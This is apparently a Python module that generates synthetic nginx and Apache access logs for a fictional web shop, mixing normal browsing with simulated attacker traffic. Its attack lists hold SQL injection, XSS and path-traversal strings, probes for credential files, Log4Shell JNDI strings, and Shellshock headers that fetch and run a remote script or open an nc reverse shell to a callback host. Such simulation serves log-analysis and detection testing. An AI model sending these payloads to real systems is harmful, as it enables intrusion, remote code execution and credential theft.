"""Web access logs (nginx combined, Apache vhost_combined and common) of a shop on www.example.com:
people browsing, the mobile app, crawlers, monitors, partners, and attackers.
"""

from __future__ import annotations

import random

from .addresses import (
    ATTACKER_V4,
    CRAWLER_V4,
    MONITOR_EXTERNAL,
    MONITOR_INTERNAL,
    OFFICE_VPN,
    PUBLIC_V4,
    public_v6,
)
from .clock import WEB_DAY, clf_stamp
from .engine import Event, Model, Payload
from .longtail import LongTail
from .randomness import between, integer, picker, rng_choice, uniform, zipf_weights

BROWSER_UAS = [
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        24,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
        5,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
        8,
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 5),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
        7,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        6,
    ),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", 2),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", 1),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
        17,
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
        2,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
        16,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
        3,
    ),
    (
        "Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36 [FBAN/EMA;FBLC/en_US;FBAV/482.0.0.12.104;]",
        1,
    ),
]
CRAWLERS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 10),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.59 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        14,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
        9,
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 5),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 4),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        3,
    ),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 2),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", 3),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 2),
]
APP_UAS = [
    ("ShopApp/5.3.0 (iPhone; iOS 26.1; Scale/3.00)", 6),
    ("ShopApp/5.2.4 (iPhone; iOS 18.6; Scale/3.00)", 2),
    ("ShopApp/5.3.0 (Android 15; Pixel 8)", 4),
    ("okhttp/4.12.0", 2),
]
PARTNER_UAS = [("python-requests/2.32.5", 3), ("Go-http-client/2.0", 1), ("curl/8.14.1", 1)]
PRODUCT_A = [
    "trail",
    "merino",
    "rain",
    "city",
    "alpine",
    "classic",
    "ultralight",
    "canvas",
    "denim",
    "linen",
    "thermal",
    "packable",
    "recycled",
    "organic",
    "waxed",
    "quilted",
]
PRODUCT_B = [
    "runner",
    "crew-sock",
    "shell-jacket",
    "sneaker",
    "backpack",
    "hoodie",
    "parka",
    "t-shirt",
    "beanie",
    "chino",
    "boot",
    "tote-bag",
    "fleece",
    "rain-pants",
    "duffel",
    "cap",
]
CATEGORIES = ["shoes", "jackets", "t-shirts", "accessories", "bags", "outdoor", "kids", "sale", "new-arrivals"]
CATEGORY_QUERIES = [
    ("", 10),
    ("?page=2", 3),
    ("?sort=price_asc", 2),
    ("?page=3&sort=newest", 1),
    ("?size=42&color=black&sort=popular", 1),
    ("?page=2&sort=price_desc", 1),
]
SEARCHES = [
    "running+shoes",
    "rain+jacket",
    "wool+socks",
    "gift+card",
    "backpack",
    "caf%C3%A9+mug",
    "size+44",
    "waterproof",
    "kids+boots",
    "sale",
    "merino",
    "black+hoodie",
    "trail+runner+gtx",
    "beanie",
]
BLOG = [
    "how-to-choose-hiking-boots",
    "merino-vs-synthetic",
    "packing-list-weekend-trip",
    "care-guide-waxed-cotton",
    "winter-layering-101",
]
EXTERNAL_REFERRERS = [
    ("-", 40),
    ("https://www.google.com/", 30),
    ("https://www.bing.com/", 5),
    ("https://duckduckgo.com/", 4),
    ("https://www.ecosia.org/", 1),
    ("https://l.facebook.com/", 3),
    ("https://www.instagram.com/", 2),
    ("https://t.co/", 1),
    ("https://news.example.org/deals/black-friday-outdoor", 2),
    ("android-app://com.google.android.gm/", 1),
]
ASSETS = [
    ("/static/js/app.4f9c2a1e.js", 48211),
    ("/static/js/vendor.9b1d77c0.js", 141530),
    ("/static/css/main.7c3e5b12.css", 21877),
    ("/static/fonts/inter-var.woff2", 98420),
    ("/images/logo.svg", 3412),
    ("/favicon.ico", 15086),
]

#: Mobile app calls: (request, status, smallest and largest body, weight).
APP_CALLS = [
    ("GET /api/v1/products?category={category}&page={page}&limit=24", 200, 6000, 14000, 6),
    ("GET /api/v1/products/{pid}", 200, 1500, 3500, 6),
    ("GET /api/v1/cart", 200, 90, 2400, 4),
    ("POST /api/v1/cart/items", 201, 400, 900, 1),
    ("POST /api/v1/auth/refresh", 200, 700, 760, 2),
    ("GET /api/v1/orders?limit=10", 200, 400, 5000, 1),
    ("GET /api/v1/me", 200, 300, 600, 2),
    ("POST /api/v1/orders", 201, 800, 1600, 0.3),
]
HTTP_REASONS_SIZES = {
    301: 162,
    302: 138,
    304: 0,
    400: 150,
    401: 179,
    403: 146,
    404: 146,
    405: 150,
    429: 162,
    500: 170,
    502: 150,
    503: 190,
}

# --- attack material (only ever sent from ATTACK_NETWORKS) -----------------------------------
SQLI = [
    "1%27%20OR%20%271%27%3D%271",
    "1'+OR+'1'='1",
    "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
    "1)%20AND%20SLEEP(5)%23",
    "1%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20",
    "-1+UNION+SELECT+1,username,password+FROM+users--",
    "admin'--",
    "1%22%20AND%20EXTRACTVALUE(1%2CCONCAT(0x7e%2C(SELECT%20version())%2C0x7e))--",
    "1%3BDROP%20TABLE%20users--",
    "1%27%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "1%20AND%201%3D1",
    "1%20AND%201%3D2",
    "(SELECT%20CHAR(113)%2BCHAR(122)%2BCHAR(118))",
    "1'%20ORDER%20BY%2010--",
]
SQLI_TARGETS = [
    "/products?id=",
    "/search?q=",
    "/api/v1/products?category=",
    "/category/shoes?sort=",
    "/api/v1/orders?id=",
]
XSS = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script>alert(document.cookie)</script>",
    "%22%3E%3Csvg%2Fonload%3Dalert(1)%3E",
    "javascript:alert(1)",
    "<img%20src=x%20onerror=alert(1)>",
    "'-alert(1)-'",
    "%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "%3Cbody%20onload%3Dalert('xss')%3E",
]
XSS_TARGETS = ["/search?q=", "/products/1001-trail-runner?color=", "/login?next=", "/category/sale?sort="]
TRAVERSAL = [
    "/download?file=../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/images/..%252f..%252f..%252fetc/passwd",
    "/api/v1/export?path=....//....//....//etc/shadow",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/?file=..\\..\\..\\windows\\win.ini",
    "/static/../../../../../proc/self/environ",
    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
]
PROBE_PATHS = [
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/wp-content/plugins/revslider/temp/update_extract/",
    "/phpmyadmin/",
    "/pma/",
    "/admin.php",
    "/administrator/",
    "/login.php",
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/config.php",
    "/config.php.bak",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/dump.sql",
    "/server-status",
    "/server-info",
    "/actuator",
    "/actuator/env",
    "/actuator/health",
    "/api/swagger.json",
    "/swagger-ui.html",
    "/v2/api-docs",
    "/console",
    "/manager/html",
    "/solr/admin/",
    "/jenkins/login",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/global-protect/login.esp",
    "/.aws/credentials",
    "/.DS_Store",
    "/.svn/entries",
    "/.htaccess",
    "/web.config",
    "/info.php",
    "/phpinfo.php",
    "/test.php",
    "/shell.php",
    "/cmd.php",
    "/wp-config.php.bak",
    "/.vscode/sftp.json",
    "/config.json",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/debug/default/view",
    "/autodiscover/autodiscover.xml",
    "/.well-known/security.txt",
    "/admin/config.php",
    "/laravel/.env",
    "/api/.env",
    "/storage/logs/laravel.log",
    "/.circleci/config.yml",
    "/docker-compose.yml",
    "/.kube/config",
    "/id_rsa",
    "/sftp-config.json",
    "/xampp/",
    "/mysql/",
    "/sql/",
    "/old/",
    "/new/",
    "/bak/",
]
DOTFILE_PATHS = [
    "/.env",
    "/.env.bak",
    "/.env.local",
    "/api/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.git/index",
    "/.aws/credentials",
    "/.DS_Store",
    "/config.json",
    "/.npmrc",
    "/.docker/config.json",
]
SCANNER_UAS = [
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test})", 3),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36", 3),
    ("Mozilla/5.0 zgrab/0.x", 2),
    ("gobuster/3.6", 2),
    ("Fuzz Faster U Fool v2.1.0-dev", 2),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", 3),
    ("WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)", 2),
    ("Go-http-client/1.1", 2),
    ("python-requests/2.31.0", 1),
    ("curl/7.88.1", 1),
    ("l9explore/1.2.2", 1),
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 1),
]
OLD_BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"
SQLMAP_UA = "sqlmap/1.9.8#stable (https://sqlmap.org)"
LOG4SHELL = [
    "${{jndi:ldap://{cb}:1389/Exploit}}",
    "${{jndi:ldap://${{hostName}}.c9f1ab.oast.example.org/a}}",
    "${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{cb}/o=tomcat}}",
    "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{cb}:1099/x}}",
    "Mozilla/5.0 ${{jndi:dns://log4j.c9f1ab.oast.example.org/test}}",
    "${{jndi:ldap://{cb}:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMjAzLjAuMTEzLjE1MC94LnNofHNo}}",
]
SHELLSHOCK = [
    "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'",
    '() { :;}; /bin/bash -c "wget -qO- http://{cb}/x.sh | sh"',
    "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id",
    "() { :; }; /bin/bash -c 'nc -e /bin/sh {cb} 4444'",
]
CGI_TARGETS = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/bash", "/cgi-bin/admin.cgi", "/", "/cgi-bin/php"]
STUFFING_UAS = [
    "python-requests/2.31.0",
    OLD_BROWSER_UA,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
]


def nginx_escape(text: str) -> str:
    """What nginx writes for a header or request line: `"`, `\\` and non-printables as \\xHH."""
    if text.isascii() and text.isprintable() and '"' not in text and "\\" not in text:
        return text
    out = []
    for byte in text.encode():
        if byte in (0x22, 0x5C) or byte < 0x20 or byte > 0x7E:
            out.append(f"\\x{byte:02X}")
        else:
            out.append(chr(byte))
    return "".join(out)


def apache_escape(text: str) -> str:
    """What Apache's mod_log_config writes: `\\"`, `\\\\`, and \\xhh for other unsafe bytes."""
    if text.isascii() and text.isprintable() and '"' not in text and "\\" not in text:
        return text
    out = []
    for byte in text.encode():
        if byte == 0x22:
            out.append('\\"')
        elif byte == 0x5C:
            out.append("\\\\")
        elif byte < 0x20 or byte > 0x7E:
            out.append(f"\\x{byte:02x}")
        else:
            out.append(chr(byte))
    return "".join(out)


class AccessModel(Model):
    """nginx `combined`, Apache `vhost_combined` or Apache `common` lines of one web shop."""

    default_rate = 40.0
    day = WEB_DAY

    def __init__(self, rng: random.Random, host: str, variant: str = "combined", long_tail: bool = False) -> None:
        super().__init__(rng, host)
        self.options = {"variant": variant, "long_tail": long_tail}
        self.variant = variant
        self.escape = nginx_escape if variant == "combined" else apache_escape
        self.stamp = clf_stamp()
        browsers = picker(rng, BROWSER_UAS)
        # Clients: (address, user agent, protocol). Heavy hitters first (office NATs, mobile
        # carriers), then a long tail; a few percent of the traffic comes over IPv6.
        v4 = [(ip, browsers(), "HTTP/2.0" if rng.random() < 0.75 else "HTTP/1.1") for ip in rng.sample(PUBLIC_V4, 420)]
        v6 = [(public_v6(rng), browsers(), "HTTP/2.0") for _ in range(60)]
        weights = zipf_weights(len(v4), 0.85)
        weights += [sum(weights) * 0.04 / len(v6)] * len(v6)
        self.client = picker(rng, list(zip(v4 + v6, weights, strict=True)), resolution=32768)
        app_ua = picker(rng, APP_UAS)
        app_clients = [(ip, app_ua()) for ip in rng.sample(PUBLIC_V4, 150)]
        self.app_client = picker(rng, list(zip(app_clients, zipf_weights(150, 0.7), strict=True)))
        self.crawler_ips = {ua: rng.sample(CRAWLER_V4, 3) for ua, _ in CRAWLERS}
        self.crawler_ua = picker(rng, CRAWLERS)
        self.products = [
            (
                integer(rng, 1000, 9999),
                f"{rng_choice(rng, PRODUCT_A)}-{rng_choice(rng, PRODUCT_B)}",
                integer(rng, 18_000, 90_000),
            )
            for _ in range(400)
        ]
        self.product = picker(rng, list(zip(self.products, zipf_weights(400, 0.9), strict=True)))
        self.external_ref = picker(rng, EXTERNAL_REFERRERS)
        self.category_query = picker(rng, CATEGORY_QUERIES)
        self.page_kind = picker(
            rng,
            [
                ("home", 14),
                ("product", 34),
                ("category", 20),
                ("search", 9),
                ("cart", 6),
                ("checkout", 3),
                ("account", 3),
                ("login", 3),
                ("blog", 3),
                ("help", 3),
                ("about", 2),
            ],
        )
        self.kind = picker(
            rng,
            [
                (self._visit, 52),
                (self._app_calls, 14),
                (self._crawl, 8),
                (self._monitor, 4),
                (self._login, 4),
                (self._backoffice, 2),
                (self._misc, 5),
                (self._http_redirect, 3),
                (self._partner, 2),
            ],
        )
        self.attack_kind = picker(
            rng,
            [
                (self._scanner, 25),
                (self._sqli, 15),
                (self._dotfiles, 15),
                (self._traversal, 10),
                (self._xss, 8),
                (self._log4shell, 10),
                (self._shellshock, 5),
                (self._stuffing, 12),
            ],
        )
        self.scanner_ua = picker(rng, SCANNER_UAS)
        self.attacker = uniform(rng, ATTACKER_V4)
        self.app_call = picker(
            rng, [((request, status, low, high), weight) for request, status, low, high, weight in APP_CALLS]
        )
        self.tail: LongTail | None = None
        if long_tail:
            self._with_long_tail()

    def _with_long_tail(self) -> None:
        """Thousands of browsers with their own user agents, and the long-tail URLs of `LongTail`."""
        rng = self.rng
        self.tail = tail = LongTail(rng, [pid for pid, _, _ in self.products])
        clients = [
            (rng_choice(rng, PUBLIC_V4) if rng.random() < 0.9 else public_v6(rng), tail.user_agent(),
             "HTTP/2.0" if rng.random() < 0.75 else "HTTP/1.1")
            for _ in range(6000)
        ]  # fmt: skip
        self.client = picker(rng, list(zip(clients, zipf_weights(len(clients), 0.7), strict=True)), resolution=65536)

    # -- line layout -------------------------------------------------------------------------
    def line(
        self,
        ip: str,
        user: str,
        request: str,
        status: int,
        size: int,
        referrer: str,
        agent: str,
        vhost: str = "www.example.com:443",
    ) -> Payload:
        """The line in this log's layout (combined, vhost_combined or common); (head, tail) around the time."""
        if self.variant == "combined":
            return (f"{ip} - {user} [", f'] "{request}" {status} {size} "{referrer}" "{agent}"\n')
        if self.variant == "vhost":  # %O counts headers too, so it is never 0
            return (
                f"{vhost} {ip} - {user} [",
                f'] "{request}" {status} {size + 180 + (size % 97)} "{referrer}" "{agent}"\n',
            )
        return (f"{ip} - {user} [", f'] "{request}" {status} {size if size else "-"}\n')

    def render(self, t: float, payload: Payload) -> str:
        return payload[0] + self.stamp(t) + payload[1]

    def hostile(
        self,
        ip: str,
        method: str,
        target: str,
        status: int,
        size: int,
        referrer: str,
        agent: str,
        proto: str = "HTTP/1.1",
        vhost: str = "www.example.com:443",
    ) -> Payload:
        """A line whose request and headers come from an attacker: escaped the way the server escapes them."""
        esc = self.escape
        return self.line(ip, "-", esc(f"{method} {target} {proto}"), status, size, esc(referrer), esc(agent), vhost)

    # -- benign sessions ---------------------------------------------------------------------
    def session(self, t: float) -> list[Event]:
        return self.kind()()

    def _page(self) -> tuple[str, int, int, str]:
        """(target, status, bytes, page kind) of one page view."""
        rng = self.rng
        kind = self.page_kind()
        if kind == "home":
            target, size = "/", integer(rng, 38_000, 44_000)
        elif kind == "product":
            pid, slug, _ = self.product()
            target, size = f"/products/{pid}-{slug}", integer(rng, 24_000, 36_000)
            roll = rng.random()
            if roll < 0.1:
                target += f"?color={rng_choice(rng, ['black', 'navy', 'olive', 'sand'])}&size={integer(rng, 36, 46)}"
            elif roll < 0.17:
                target += "?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday"
        elif kind == "category":
            if self.tail is not None and rng.random() < 0.4:
                target = self.tail.filters(rng_choice(rng, CATEGORIES))
            else:
                target = f"/category/{rng_choice(rng, CATEGORIES)}{self.category_query()}"
            size = integer(rng, 30_000, 52_000)
        elif kind == "search" and self.tail is not None:
            target, size = self.tail.search(), integer(rng, 12_000, 40_000)
        elif kind == "search":
            target = f"/search?q={rng_choice(rng, SEARCHES)}" + ("&page=2" if rng.random() < 0.15 else "")
            size = integer(rng, 12_000, 40_000)
        elif kind == "blog":
            target, size = f"/blog/{rng_choice(rng, BLOG)}", integer(rng, 18_000, 26_000)
        elif kind == "help":
            target, size = (
                rng_choice(rng, ["/help/shipping", "/help/returns", "/help/sizes", "/help/contact"]),
                integer(rng, 9_000, 14_000),
            )
        elif kind == "about":
            target, size = rng_choice(rng, ["/about", "/contact", "/imprint", "/privacy"]), integer(rng, 8_000, 12_000)
        else:
            target, size = f"/{kind}", integer(rng, 9_000, 21_000)
        roll = rng.random()
        if roll < 0.004:
            return target, rng_choice(rng, [500, 502, 503, 504]), 0, kind
        if kind == "product" and roll < 0.035:
            return target, 404, 10_512, kind
        if kind == "category" and roll < 0.02:
            return target.split("?")[0] + "/", 301, 162, kind
        return target, 200, size, kind

    def _visit(self) -> list[Event]:
        """A person browsing 1-5 pages, each with the assets and API calls the page makes."""
        rng = self.rng
        ip, ua, proto = self.client()
        returning = rng.random() < 0.45
        referrer = self.external_ref()
        events: list[Event] = []
        at = 0.0
        for page_no in range(1 + int(rng.expovariate(0.7))):
            if page_no:
                at += between(rng, 4.0, 90.0)
            target, status, size, kind = self._page()
            if self.tail is not None and page_no == 0 and rng.random() < 0.3:
                target += ("&" if "?" in target else "?") + self.tail.landing_query()
            if status == 301:
                events.append((at, self.line(ip, "-", f"GET {target[:-1]} {proto}", 301, 162, referrer, ua)))
                at += 0.08
                status, size = 200, integer(rng, 30_000, 52_000)
            events.append((at, self.line(ip, "-", f"GET {target} {proto}", status, size, referrer, ua)))
            page_url = "https://www.example.com" + target
            if status != 200:
                referrer = page_url
                continue
            assets = [a for a in ASSETS if not returning or rng.random() < 0.25]
            if page_no and not returning:  # assets come from the cache after the first page
                assets = [a for a in assets if rng.random() < 0.1]
            images = {"home": 5, "product": 4, "category": 10}.get(kind, 1)
            for _ in range(integer(rng, 1, images)):
                pid, _, image_bytes = self.product()
                assets.append((f"/images/products/{pid}-{rng_choice(rng, (400, 800))}.webp", image_bytes))
            offset = at + between(rng, 0.05, 0.3)
            if self.tail is not None:
                events += self._tail_calls(kind, page_url, referrer, offset, ip, ua, proto)
                version = self.tail.asset_version()
                assets = [(p + version if p.startswith("/static/") else p, b) for p, b in assets]
            for path, asset_bytes in assets:
                cached = returning and rng.random() < 0.7
                events.append(
                    (
                        offset,
                        self.line(
                            ip,
                            "-",
                            f"GET {path} {proto}",
                            304 if cached else 200,
                            0 if cached else asset_bytes,
                            page_url,
                            ua,
                        ),
                    )
                )
                offset += between(rng, 0.005, 0.12)
            offset += between(rng, 0.1, 0.8)
            if kind in ("product", "cart", "checkout") or rng.random() < 0.3:
                events.append(
                    (offset, self.line(ip, "-", f"GET /api/v1/cart {proto}", 200, integer(rng, 90, 2400), page_url, ua))
                )
            if kind == "product" and rng.random() < 0.6:
                pid = target.split("/")[2].split("-")[0]
                events.append(
                    (
                        offset + 0.05,
                        self.line(
                            ip,
                            "-",
                            f"GET /api/v1/recommendations?product={pid}&limit=8 {proto}",
                            200,
                            integer(rng, 3000, 6000),
                            page_url,
                            ua,
                        ),
                    )
                )
            if rng.random() < 0.5:
                events.append(
                    (
                        offset + between(rng, 0.5, 3.0),
                        self.line(ip, "-", f"POST /api/v1/events {proto}", 204, 0, page_url, ua),
                    )
                )
            if kind == "product" and rng.random() < 0.12:
                events.append(
                    (
                        offset + between(rng, 5, 40),
                        self.line(
                            ip, "-", f"POST /api/v1/cart/items {proto}", 201, integer(rng, 400, 900), page_url, ua
                        ),
                    )
                )
            referrer = page_url
        return events

    def _tail_calls(
        self, kind: str, page_url: str, referrer: str, at: float, ip: str, ua: str, proto: str
    ) -> list[Event]:
        """What a page of the long-tail shop calls besides its assets: search suggestions while
        typing, product lists, the analytics beacon."""
        rng, tail = self.rng, self.tail
        assert tail is not None
        calls: list[tuple[str, str, int, int]] = []
        if rng.random() < 0.25 or kind == "search":
            calls += [("GET", tail.suggest(), 200, integer(rng, 200, 1800)) for _ in range(integer(rng, 1, 4))]
        if kind in ("category", "home") and rng.random() < 0.4:
            calls.append(("GET", tail.product_list_api(), 200, integer(rng, 4000, 40_000)))
        if rng.random() < 0.35:  # sites that self-host their analytics collector
            calls.append(("GET", tail.beacon(page_url, referrer), 204, 0))
        events: list[Event] = []
        for method, target, status, size in calls:
            at += tail.dwell()
            events.append((at, self.line(ip, "-", self.escape(f"{method} {target} {proto}"), status, size, page_url, ua)))
        return events

    def _app_calls(self) -> list[Event]:
        """The mobile app talking to api.example.com: a few JSON calls in a row."""
        rng = self.rng
        ip, ua = self.app_client()
        events, at = [], 0.0
        for _ in range(integer(rng, 1, 6)):
            request, status, low, high = self.app_call()
            if "{" in request:
                request = request.format(
                    category=rng_choice(rng, CATEGORIES), page=integer(rng, 1, 4), pid=self.product()[0]
                )
            size = integer(rng, low, high)
            roll = rng.random()
            if roll < 0.02:
                status, size = 401, 61
            elif roll < 0.025:
                status, size = rng_choice(rng, (429, 500, 502, 503)), 0
            events.append((at, self.line(ip, "-", f"{request} HTTP/2.0", status, size, "-", ua, "api.example.com:443")))
            at += between(rng, 0.2, 8.0)
        return events

    def _crawl(self) -> list[Event]:
        rng = self.rng
        ua = self.crawler_ua()
        ip = rng_choice(rng, self.crawler_ips[ua])
        events, at = [], 0.0
        if rng.random() < 0.2:
            events.append((at, self.line(ip, "-", "GET /robots.txt HTTP/1.1", 200, 412, "-", ua)))
            at += between(rng, 0.5, 3)
        for _ in range(integer(rng, 1, 8)):
            roll = rng.random()
            if roll < 0.06:
                target, status, size = (
                    rng_choice(rng, ["/sitemap.xml", "/sitemap-products-1.xml", "/sitemap-categories.xml"]),
                    200,
                    integer(rng, 2000, 90_000),
                )
            elif roll < 0.09:
                target, status, size = f"/products/{integer(rng, 100, 999)}-discontinued-item", 404, 10_512
            else:
                target, status, size, _ = self._page()
            events.append((at, self.line(ip, "-", f"GET {target} HTTP/1.1", status, size, "-", ua)))
            at += between(rng, 0.5, 12)
        return events

    def _monitor(self) -> list[Event]:
        if self.rng.random() < 0.6:
            return [
                (
                    0.0,
                    self.line(MONITOR_INTERNAL, "-", "GET /healthz HTTP/1.1", 200, 2, "-", "Blackbox-Exporter/0.27.0"),
                )
            ]
        return [
            (
                0.0,
                self.line(
                    MONITOR_EXTERNAL,
                    "-",
                    "HEAD / HTTP/1.1",
                    200,
                    0,
                    "https://www.example.com",
                    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                ),
            )
        ]

    def _login(self) -> list[Event]:
        rng = self.rng
        ip, ua, proto = self.client()
        ref = "https://www.example.com/login"
        events: list[Event] = [
            (
                0.0,
                self.line(
                    ip, "-", f"GET /login {proto}", 200, integer(rng, 9000, 9400), "https://www.example.com/cart", ua
                ),
            )
        ]
        at = between(rng, 5, 30)
        if rng.random() < 0.15:  # a typo, then the right password
            events.append((at, self.line(ip, "-", f"POST /login {proto}", 200, integer(rng, 9400, 9700), ref, ua)))
            at += between(rng, 4, 20)
        events.append((at, self.line(ip, "-", f"POST /login {proto}", 302, 0, ref, ua)))
        events.append(
            (at + 0.1, self.line(ip, "-", f"GET /account {proto}", 200, integer(rng, 14_000, 16_000), ref, ua))
        )
        if rng.random() < 0.3:
            events.append(
                (
                    at + between(rng, 20, 300),
                    self.line(ip, "-", f"GET /logout {proto}", 302, 0, "https://www.example.com/account", ua),
                )
            )
        return events

    def _backoffice(self) -> list[Event]:
        """Staff on the VPN using the basic-auth protected back office."""
        rng = self.rng
        ip = rng_choice(rng, OFFICE_VPN)
        user = rng_choice(rng, ["alice", "bob", "carol"])
        ua = BROWSER_UAS[0][0]
        events: list[Event] = [(0.0, self.line(ip, "-", "GET /admin/ HTTP/2.0", 401, 179, "-", ua))]
        at = between(rng, 2, 8)
        events.append((at, self.line(ip, user, "GET /admin/ HTTP/2.0", 200, integer(rng, 20_000, 24_000), "-", ua)))
        for _ in range(integer(rng, 1, 5)):
            at += between(rng, 3, 60)
            pid = self.product()[0]
            request, status, size = rng_choice(
                rng,
                [
                    ("GET /admin/orders?status=pending", 200, integer(rng, 30_000, 60_000)),
                    (f"GET /admin/products/{pid}/edit", 200, integer(rng, 25_000, 30_000)),
                    (f"POST /admin/products/{pid}", 302, 0),
                    ("GET /admin/customers?page=2", 200, integer(rng, 40_000, 50_000)),
                    ("GET /admin/reports/sales?range=7d", 200, integer(rng, 15_000, 22_000)),
                ],
            )
            events.append(
                (at, self.line(ip, user, f"{request} HTTP/2.0", status, size, "https://www.example.com/admin/", ua))
            )
        return events

    def _misc(self) -> list[Event]:
        rng = self.rng
        ip, ua, proto = self.client()
        request, status, size = rng_choice(
            rng,
            [
                ("GET /apple-touch-icon.png", 404, 10_512),
                ("GET /apple-touch-icon-precomposed.png", 404, 10_512),
                ("GET /favicon.ico", 200, 15_086),
                ("GET /manifest.webmanifest", 200, 611),
                ("GET /sw.js", 200, 2_904),
                ("GET /.well-known/apple-app-site-association", 200, 289),
                ("GET /robots.txt", 200, 412),
                ("GET /ads.txt", 404, 10_512),
            ],
        )
        return [(0.0, self.line(ip, "-", f"{request} {proto}", status, size, "-", ua))]

    def _http_redirect(self) -> list[Event]:
        ip, ua, _ = self.client()
        target = self._page()[0]
        return [(0.0, self.line(ip, "-", f"GET {target} HTTP/1.1", 301, 162, "-", ua, "www.example.com:80"))]

    def _partner(self) -> list[Event]:
        """A partner's feed import: a few authenticated API pulls."""
        rng = self.rng
        ip, ua = rng_choice(rng, CRAWLER_V4[40:]), picker(rng, PARTNER_UAS)()
        events, at = [], 0.0
        for page in range(1, integer(rng, 2, 5)):
            events.append(
                (
                    at,
                    self.line(
                        ip,
                        "-",
